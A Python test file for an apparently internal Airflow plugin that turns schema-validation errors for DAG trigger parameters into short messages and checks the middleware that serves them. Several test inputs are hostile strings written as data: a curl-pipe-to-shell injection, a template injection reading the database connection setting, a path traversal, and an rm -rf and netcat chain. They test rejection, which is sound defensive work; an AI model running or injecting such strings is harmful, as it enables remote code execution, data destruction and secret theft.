"""A trigger refused by a Param's schema: the answer names the field and the fix, and stays short.

The texts rewritten here are produced by Airflow's own server-side validation (``SerializedParamsDict`` of the
DAG's Params, deep-merged with the conf and validated, as ``POST /api/v2/dags/{id}/dagRuns`` does), so a change in
Airflow's wording breaks these tests rather than the rewrite silently passing Airflow's dump through.
"""

from __future__ import annotations

import json

import pytest
from airflow.serialization.definitions.param import SerializedParam, SerializedParamsDict
from phoenix_fleet.pipelines.release_dag import release_params
from phoenix_fleet.pipelines.rollout_dag import rollout_params
from phoenix_fleet.ui.trigger_errors import TriggerErrorMiddleware, explain


def airflow_says(params, conf) -> str:
    """Airflow's 400 detail for ``conf`` (what the api-server answers today)."""
    served = SerializedParamsDict({k: SerializedParam(v.value, v.description, **v.schema) for k, v in params.items()})
    try:
        served.deep_merge(conf).validate()
    except Exception as e:  # ParamValidationError
        return str(e)
    raise AssertionError(f"Airflow accepted {conf}")


CASES = [
    (release_params, {"version": "2026-11-30"},
     "params.version (Version): '2026-11-30' is not in the expected format. Fix: use YYYY.MM.DD-N, e.g. 2026.11.30-1, "
     "or leave it empty for the next free version"),
    (release_params, {"release_notes": "x" * 100_000},
     "params.release_notes (Release notes): 100000 characters, more than the 4000 allowed. Fix: plain text of at "
     "most 4000 characters, without {{, {% or {#"),
    (release_params, {"release_notes": "{{ conf.get('core', 'sql_alchemy_conn') }}"},
     "params.release_notes (Release notes): \"{{ conf.get('core', 'sql_alchemy_conn') }}\" is not in the expected "
     "format. Fix: plain text of at most 4000 characters, without {{, {% or {#"),
    (release_params, {"regions": ["us-east-1", "../../etc"]},
     "params.regions[1]: '../../etc' is not in the expected format. Fix: one region per line, e.g. us-east-1"),
    (release_params, {"base_ami_name": "$(curl evil|sh)"},
     "params.base_ami_name (Base AMI name pattern): '$(curl evil|sh)' is not in the expected format. Fix: 3-128 "
     "characters: letters, digits, ( ) [ ] space . / - ' @ _ and the wildcard *"),
    (release_params, {"dry_run": "yes"},
     "params.dry_run (Dry run (plan only)): 'yes' is text, not true or false. Fix: true or false (or leave it empty)"),
    (release_params, {"regions": "us-east-1"},
     "params.regions (Regions): 'us-east-1' is text, not a list. Fix: one region per line, e.g. us-east-1"),
    (release_params, {"base_ami_owners": ["self"] * 11},
     "params.base_ami_owners (Base AMI owners): 11 items, more than the 10 allowed. Fix: one owner per line: a "
     "12-digit account id, 'self' or 'amazon'"),
    (rollout_params, {"strategy": "yolo"},
     "params.strategy (Strategy): 'yolo' is not one of the choices. Fix: choose surge, replace or instance-refresh, "
     "or leave it empty for the role's"),
    (rollout_params, {"batch_size": 0},
     "params.batch_size (Batch size): 0 is out of range. Fix: a number from 1 to 1000 (or leave it empty)"),
    (rollout_params, {"min_healthy_percent": "50"},
     "params.min_healthy_percent (Minimum healthy percent): '50' is text, not a whole number. Fix: a whole number "
     "from 0 to 100 (or leave it empty)"),
    (rollout_params, {"strategy": "$(reboot); rm -rf / `id` | nc 127.0.0.1 4444 && echo pwned"},
     "params.strategy (Strategy): '$(reboot); rm -rf / `id` | nc 127.0.0.1 4444 && echo pwned' is not one of the "
     "choices. Fix: choose surge, replace or instance-refresh, or leave it empty for the role's"),
]


@pytest.mark.parametrize(("params", "conf", "expected"), CASES, ids=[next(iter(c[1])) + str(i) for i, c in enumerate(CASES)])
def test_airflow_s_schema_dump_becomes_the_field_and_the_fix(params, conf, expected):
    raw = airflow_says(params(), conf)
    assert "Failed validating" in raw  # what Airflow says by itself
    assert explain(raw) == expected


def test_anything_else_is_left_alone():
    assert explain("Dag with dag_id: 'x' not found") is None
    assert explain("Invalid input for param x: something without a schema dump") is None


def _app(detail: str, status: int = 400):
    from fastapi import FastAPI, HTTPException

    app = FastAPI()

    @app.post("/api/v2/dags/{dag_id}/dagRuns")
    def trigger(dag_id: str):
        raise HTTPException(status, detail)

    @app.post("/api/v2/dags/{dag_id}/other")
    def other(dag_id: str):
        raise HTTPException(status, detail)

    app.add_middleware(TriggerErrorMiddleware)  # as Airflow adds a plugin's fastapi_root_middlewares
    return app


def test_the_middleware_rewrites_only_a_trigger_s_param_error_and_keeps_it_short():
    from fastapi.testclient import TestClient

    raw = airflow_says(release_params(), {"release_notes": "x" * 100_000})
    assert len(raw) > 200_000  # the value, twice
    client = TestClient(_app(raw))
    answer = client.post("/api/v2/dags/ami_release_web/dagRuns", json={"conf": {}})
    assert answer.status_code == 400
    assert answer.json() == {"detail": CASES[1][2]}
    assert int(answer.headers["content-length"]) == len(answer.content) < 300
    assert client.post("/api/v2/dags/ami_release_web/other", json={}).json() == {"detail": raw}  # other routes
    other = TestClient(_app("Dag with dag_id: 'nope' not found", 404))
    assert other.post("/api/v2/dags/nope/dagRuns", json={}).json() == {"detail": "Dag with dag_id: 'nope' not found"}


def test_the_plugin_registers_the_middleware():
    from phoenix_fleet.airflow_plugin import PhoenixFleetPlugin

    assert [m["middleware"] for m in PhoenixFleetPlugin.fastapi_root_middlewares] == [TriggerErrorMiddleware]
    assert json.dumps([m["name"] for m in PhoenixFleetPlugin.fastapi_root_middlewares])
